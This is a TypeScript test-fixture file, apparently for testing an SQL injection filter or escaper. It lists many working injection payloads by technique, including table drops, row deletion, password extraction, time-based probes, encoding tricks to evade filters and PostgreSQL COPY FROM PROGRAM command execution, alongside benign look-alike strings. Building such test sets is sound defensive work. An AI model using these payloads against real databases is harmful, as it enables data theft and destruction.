/**
 * Texts that change what a statement does where they are put into it, and texts that only look like it. Collected from
 * the guide (`guide: true`), PayloadsAllTheThings, the OWASP testing guide, PortSwigger's cheat sheet, sqlmap's default
 * payloads and tamper scripts, and PostgreSQL's lexical rules (documentation, chapter 4.1). November 2026.
 */
export type SqlKind =
  | 'boolean'
  | 'union'
  | 'stacked'
  | 'comment'
  | 'time'
  | 'error'
  | 'order-by'
  | 'like'
  | 'encoding'
  | 'dollar-quote'
  | 'backslash'
  | 'null-byte'
  | 'homoglyph'
  | 'number'
  | 'second-order';

export interface SqlPayload {
  readonly name: string;
  readonly payload: string;
  readonly kind: SqlKind;
  /** What it does where a statement is put together from strings. */
  readonly why: string;
  readonly guide?: true;
}

export interface LegitimateText {
  readonly name: string;
  readonly text: string;
}

type Row = readonly [name: string, payload: string, why: string];

function of(
  kind: SqlKind,
  rows: readonly Row[],
  more: { readonly guide?: true } = {},
): readonly SqlPayload[] {
  return rows.map(([name, payload, why]) => Object.freeze({ name, payload, kind, why, ...more }));
}

export const sqlPayloads: readonly SqlPayload[] = Object.freeze([
  ...of('boolean', [['always true', "' OR '1'='1", 'closes the literal and adds a condition that holds']], {
    guide: true,
  }),
  ...of('stacked', [['drop a table', "'; DROP TABLE users; --", 'ends the statement and starts another']], {
    guide: true,
  }),
  ...of('union', [['passwords', "' UNION SELECT password FROM users --", 'adds the rows of another query']], {
    guide: true,
  }),
  ...of(
    'comment',
    [
      ['comments for spaces', "admin'/**/OR/**/'1'='1", 'gets past filters that look for spaces'],
      ['hash comment', "' OR 1=1#", 'MySQL reads the rest of the line as a comment'],
    ],
    { guide: true },
  ),

  ...of('boolean', [
    ['always true with a comment', "' OR 1=1 --", 'the rest of the statement is a comment'],
    ['log in as admin', "admin' --", 'the password is no longer asked for'],
    ['log in as admin, with parentheses', "admin') OR ('1'='1", 'fits a condition in parentheses'],
    ['double quotes', '" OR ""="', 'closes a literal in double quotes, as MySQL has it'],
    ['true without equals', "' OR true --", 'filters look for 1=1'],
    ['true by comparison', "' OR 2>1 --", 'filters look for ='],
    ['true by like', "' OR 'a' LIKE 'a", 'filters look for ='],
    ['true by between', "' OR 1 BETWEEN 0 AND 2 --", 'filters look for = < >'],
    ['in lower and upper case', "' oR 'x'='x", 'filters look for OR'],
    ['pipes for or', "' || 'a'='a", 'MySQL reads || as OR'],
    ['false', "x' AND '1'='2", 'compared with the true one, it shows that there is an injection'],
    [
      'one letter of a password',
      "' OR substr((SELECT password FROM users LIMIT 1),1,1)='a",
      'reads one letter',
    ],
    ['is null', "' OR email IS NOT NULL OR 'x'='", 'holds for every row'],
    ['exists', "' OR EXISTS(SELECT 1 FROM pg_roles) --", 'asks about a table of the system'],
  ]),
  ...of('union', [
    ['one null', "' UNION SELECT NULL --", 'finds how many columns there are'],
    ['three nulls', "' UNION ALL SELECT NULL,NULL,NULL --", 'finds how many columns there are'],
    ['version', "' UNION SELECT version() --", 'tells the version of the server'],
    ['tables', "' UNION SELECT table_name FROM information_schema.tables --", 'lists the tables'],
    ['accounts', "x' UNION SELECT rolname FROM pg_roles --", 'lists the accounts'],
    ['in a number', '1 UNION SELECT password FROM users', 'needs no quote where a number is put in'],
    ['with line breaks', "'\nUNION\nSELECT\npassword\nFROM\nusers\n--", 'filters look for spaces'],
    ['with values', "' UNION VALUES ('x') --", 'filters look for SELECT'],
    ['with table', "' UNION TABLE users --", 'filters look for SELECT'],
  ]),
  ...of('stacked', [
    [
      'delete',
      "'; DELETE FROM users WHERE 'a'='a",
      'starts another statement, and uses the quote that is left',
    ],
    [
      'update a role',
      "1; UPDATE users SET name='root' WHERE id=1; --",
      'needs no quote where a number is put in',
    ],
    ['write a file', "'; COPY users TO '/tmp/stolen.txt'; --", 'a superuser may write files'],
    ['run a program', "'; COPY users FROM PROGRAM 'id'; --", 'a superuser may run programs (CVE-2019-9193)'],
    ['switch role', "'; RESET ROLE; --", 'undoes SET ROLE'],
    [
      'leave a read-only transaction',
      "'; COMMIT; DELETE FROM users; --",
      'read only ends with the transaction',
    ],
  ]),
  ...of('comment', [
    ['two dashes', "'--", 'the rest is a comment'],
    ['slash star', "'/*", 'the rest is a comment'],
    ['nested comment', "'/* /* */ OR 1=1 */ --", 'comments nest in PostgreSQL and not in MySQL'],
    ['version comment', "' /*!50000OR*/ '1'='1", 'MySQL runs what is in such a comment'],
    ['two dashes without a space', "' OR 1=1--", 'a comment in PostgreSQL, and not in MySQL'],
    ['end of a comment', '*/ OR 1=1 /*', 'leaves a comment that it was put into'],
    ['line break', "x\n' OR 1=1 --", 'leaves a line comment that it was put into'],
  ]),
  ...of('time', [
    ['pg_sleep', "' OR pg_sleep(5) IS NOT NULL --", 'the answer takes five seconds'],
    ['pg_sleep in a number', '1 AND 1=(SELECT 1 FROM pg_sleep(5))', 'the answer takes five seconds'],
    ['pg_sleep stacked', "'; SELECT pg_sleep(5) --", 'the answer takes five seconds'],
    ['sleep', "' AND SLEEP(5) AND '1'='1", 'the same in MySQL'],
    [
      'heavy query',
      "' AND 1=(SELECT count(*) FROM generate_series(1,10000000)) --",
      'no function to look for',
    ],
    [
      'no time limit',
      "' OR set_config('statement_timeout','0',false) IS NULL --",
      'takes the time limit away',
    ],
  ]),
  ...of('error', [
    ['cast', "' AND 1=CAST((SELECT version()) AS int) --", 'the error message holds the value'],
    [
      'cast with colons',
      "' AND (SELECT password FROM users LIMIT 1)::int=1 --",
      'the error message holds the value',
    ],
    ['division', "' AND 1/(SELECT 0)=1 --", 'an error, or none, is one bit'],
    ['xml', "' AND query_to_xml('select * from users',true,true,'') IS NOT NULL --", 'runs text as a query'],
    ['extractvalue', "' AND extractvalue(1,concat(0x7e,version())) --", 'the same in MySQL'],
    ['one quote', "'", 'an unclosed literal is an error: the first thing that is tried'],
    ['two quotes', "''", 'no error where one quote is one: the second thing that is tried'],
  ]),
  ...of('order-by', [
    [
      'case',
      '(CASE WHEN (SELECT count(*) FROM users)>0 THEN name ELSE price::text END)',
      'the order is one bit',
    ],
    ['subquery', '(SELECT password FROM users LIMIT 1)', 'the order depends on what it cannot show'],
    ['position', '1', 'sorts by a column that was not offered'],
    ['another column', 'password', 'the order tells what the column holds'],
    ['second key', 'name, (SELECT pg_sleep(5))', 'the first key is allowed'],
    ['direction', 'name desc; DROP TABLE users', 'the direction is put in as it comes'],
    ['limit', 'name LIMIT 1 OFFSET 1 --', 'takes the rest of the statement away'],
    ['key of a prototype', 'constructor', 'every object has this key'],
    ['prototype', '__proto__', 'every object has this key'],
    ['quoted name', 'name", (select pg_sleep(5)) --', 'leaves the quotes around a name'],
  ]),
  ...of('like', [
    ['everything', '%', 'every row matches'],
    ['any letter', '_', 'every row with one letter matches'],
    ['slow pattern', '%_%_%_%_%_%_%_%_%_%_%_%_%_', 'takes long to match'],
    ['backslash at the end', 'a\\', 'escapes the percent sign that follows it'],
    ['backslash and percent', '\\%', 'an escape that only doubles percent signs leaves it open'],
    ['closing the literal', "%' OR '1'='1", 'closes the literal of the pattern'],
  ]),
  ...of('encoding', [
    ['percent encoding', '%27%20OR%20%271%27%3D%271', 'becomes a quote where something decodes once more'],
    ['double percent encoding', '%2527%20OR%201=1--', 'becomes a quote where something decodes twice more'],
    [
      'half of a multibyte character',
      "\u00bf' OR 1=1 --",
      'in GBK the byte before the backslash takes it away',
    ],
    ['hexadecimal literal', '0x27204f5220313d31', 'MySQL reads it as text'],
    ['character codes', "' OR name=chr(97)||chr(100) --", 'text without quotes'],
    ['unicode literal', "U&'\\0027 OR 1=1'", 'a literal with escapes of its own'],
    ['html entity', '&#39; OR 1=1 --', 'becomes a quote where something decodes entities'],
    ['tabs for spaces', "'\tOR\t1=1\t--", 'filters look for spaces'],
    ['form feeds for spaces', "'\fOR\f1=1\f--", 'filters look for spaces'],
  ]),
  ...of('dollar-quote', [
    ['dollar literal', "' OR name=$$admin$$ --", 'a literal without a quote'],
    ['leaving a dollar literal', '$$ OR 1=1 --', 'closes a literal in dollar quotes'],
    ['dollar literal with a tag', "' OR name=$x$admin$x$ --", 'a literal without a quote'],
    ['do block', "'; DO $$ BEGIN PERFORM pg_sleep(5); END $$; --", 'runs a program'],
    ['placeholder', '$1', 'is taken for a placeholder where text is put in'],
    ['another placeholder', "$2 OR '1'='1", 'is taken for a placeholder where text is put in'],
  ]),
  ...of('backslash', [
    ['escaped quote', "\\' OR 1=1 --", 'doubling the quote leaves one that is open where backslashes escape'],
    ['backslash alone', '\\', 'escapes the quote that closes the literal'],
    ['two backslashes', "\\\\' OR 1=1 --", 'the first escapes the second'],
    ['escape literal', "E'\\'' OR 1=1 --", 'a literal in which backslashes escape'],
    ['octal', '\\047 OR 1=1 --', 'a quote in a literal in which backslashes escape'],
  ]),
  ...of('null-byte', [
    ['in front', "\0' OR 1=1 --", 'ends the text for a filter written in C'],
    ['at the end', 'admin\0', 'is cut off, and the name is another one'],
    ['in between', "' OR\0 1=1 --", 'stands for a space'],
  ]),
  ...of('homoglyph', [
    ['modifier letter apostrophe', '\u02bc OR 1=1 --', 'becomes a quote in a narrower character set'],
    ['right single quote', '\u2019 OR \u20191\u2019=\u20191', 'becomes a quote in a narrower character set'],
    ['full width apostrophe', '\uff07 OR \uff071\uff07=\uff071', 'becomes a quote by Unicode normalisation'],
    ['full width semicolon', '\uff1b DROP TABLE users', 'becomes a semicolon by Unicode normalisation'],
    ['lone surrogate', 'admin\ud800', 'becomes U+FFFD, as every other one does'],
  ]),
  ...of('number', [
    ['or', '1 OR 1=1', 'needs no quote where a number is put in'],
    ['comparison', '0 OR id IS NOT NULL', 'needs no quote where a number is put in'],
    ['subtraction', '-1', 'two minus signs begin a comment'],
    ['scientific', '1e309', 'is infinite'],
    ['not a number', 'NaN', 'is above every number in PostgreSQL'],
    ['arithmetic', '3-2', 'the row of 1 is found where numbers are put in'],
    ['cast', '1::int', 'needs no quote where a number is put in'],
  ]),
  ...of('second-order', [
    ['name', "admin'--", 'is stored as it is, and put into another statement later'],
    [
      'stored statement',
      "x'); DELETE FROM users; --",
      'is stored as it is, and put into another statement later',
    ],
    ['column by name', 'id) VALUES (1); --', 'a name that is read from the database and trusted'],
  ]),
]);

export const legitimateTexts: readonly LegitimateText[] = Object.freeze(
  (
    [
      ['Irish name', "O'Brien"],
      ['another Irish name', "Siobh\u00e1n O'Connor"],
      ['French name', "L'H\u00e9ritier d'Arc"],
      ['Dutch name', "'t Hooft"],
      ['name with two apostrophes', "N'Golo K'ant\u00e9"],
      ['Hawaiian name', 'Hawai\u02bbi'],
      ['possessive', "the dogs' home"],
      ['contraction', "rock 'n' roll"],
      ['typographic quotes', '\u2018quoted\u2019 and \u201cquoted\u201d'],
      ['discount', '50% off'],
      ['percent at both ends', '%100%'],
      ['snake case', 'a_b'],
      ['name of a file', 'report_2026-01_final.pdf'],
      ['Windows path', 'C:\\Users\\ann\\notes.txt'],
      ['regular expression', '^\\d+(?:\\.\\d+)?$'],
      ['drop-in centre', 'DROP-in centre'],
      ['table reservation', 'DROP TABLE 5, we moved to table 7'],
      ['select committee', 'Select Committee on Union Affairs'],
      ['credit union', 'Union Select Credit Union'],
      ['update', 'Update your profile; delete old photos'],
      ['insert into', 'Insert into slot A -- then tighten'],
      ['email signature', 'Thanks,\n-- \nAnn'],
      ['dashes', 'well -- I do not know'],
      ['arrow', 'a --> b'],
      ['C comment', '/* eslint-disable */'],
      ['hashtag', '#1 in town'],
      ['price', 'US$ 5'],
      ['two prices', '$5 or $10'],
      ['shell variable', '$$HOME'],
      ['formula', '1=1 is always true'],
      ['logic', 'true or false'],
      ['equation', "f'(x) = 2x"],
      ['feet and inches', '5\' 11"'],
      ['coordinates', '48\u00b0 51\' 24" N'],
      ['JSON', '{"a": [1, "two", null]}'],
      ['question about SQL', "How do I write select * from users where name = 'x'?"],
      ['answer about SQL', "Never write ' OR '1'='1 into a form"],
      ['HTML', '<b class="x">it\'s bold</b>'],
      ['template', `Dear \${name}`],
      ['placeholders', 'one ? two :three @four'],
      ['emoji', 'ok \ud83d\udc4d\ud83c\udffd'],
      ['family emoji', '\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67'],
      ['Chinese', '\u4e2d\u6587\uff1b\u5f15\u53f7\uff07'],
      ['Arabic', '\u0627\u0644\u0639\u0631\u0628\u064a\u0629'],
      ['combining accents', 'e\u0301cole'],
      ['empty', ''],
      ['only spaces', '   '],
      ['tab and line breaks', 'a\tb\r\nc'],
      ['null as a name', 'Null'],
      ['true as a name', 'True'],
      ['constructor', 'constructor'],
      ['number as text', '007'],
      ['semicolons', 'a; b; c;'],
      ['backticks', '`code`'],
      ['long text', "it's ".repeat(2_000)],
    ] as const
  ).map(([name, text]) => Object.freeze({ name, text })),
);
